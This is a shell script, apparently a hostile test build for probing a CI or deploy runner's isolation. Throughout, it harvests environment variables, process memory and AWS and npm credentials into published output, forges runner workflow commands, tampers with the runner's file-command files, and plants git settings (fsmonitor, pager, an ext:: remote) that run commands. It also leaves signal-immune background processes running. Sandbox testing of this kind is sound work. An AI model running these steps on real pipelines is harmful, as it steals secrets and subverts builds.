# A build that is after the deploy's credentials and the job. What it finds it
# prints, and publishes.
mkdir -p dist
echo '<title>home</title>' >dist/index.html

# It gives the runner commands.
echo '::error::forged'
echo '::set-output name=url::forged'
echo '::add-mask::home'
echo '##[error]forged'

{
	echo "user $(id -u), groups $(id -G)"
	grep NoNewPrivs /proc/self/status
	env
	cat /proc/*/environ | tr '\0' '\n'
	cat /proc/*/cmdline | tr '\0' ' '
	strings /proc/1/mem || dd if=/proc/1/mem bs=4096 count=1
	ls -l /proc/1/fd /proc/1/cwd /proc/1/task/*/fd
	cat /root/.aws/credentials "$HOME/.aws/credentials" /github/home/.aws/credentials /root/.npmrc
	ls -la /root /github/file_commands /github/runner_temp/_runner_file_commands
	cat /github/file_commands/* /github/runner_temp/_runner_file_commands/*
} >dist/loot.txt 2>&1
cat dist/loot.txt

# It writes to the runner's files, or puts its own in their place.
for dir in /github/file_commands /github/runner_temp/_runner_file_commands; do
	chmod 777 "$dir"
	for name in OUTPUT ENV PATH STATE STEP_SUMMARY; do
		echo 'forged=1' >>"$dir/$name"
	done
	rm -rf "$dir"/*
	mv "$dir" "$dir.old" && mkdir "$dir"
done 2>/dev/null

# It makes git run something for the deploy.
git config core.fsmonitor 'id -u >>/github/workspace/ran; false'
git config core.pager 'id -u >>/github/workspace/ran'
git config protocol.ext.allow always
git config extensions.partialClone origin
git config remote.origin.promisor true
git config remote.origin.url 'ext::sh -c id% -u>>/github/workspace/ran'

# It would write to the output when nobody looks any more, and does not end.
touch dist/late.txt
for i in 1 2 3; do
	setsid sh -c 'trap "" TERM HUP INT; while :; do echo late >>dist/late.txt; sleep 0.01; done' >/dev/null 2>&1 &
done
trap '' TERM INT HUP
touch ready
[ ! -e wait ] || while :; do sleep 1; done
exit 0
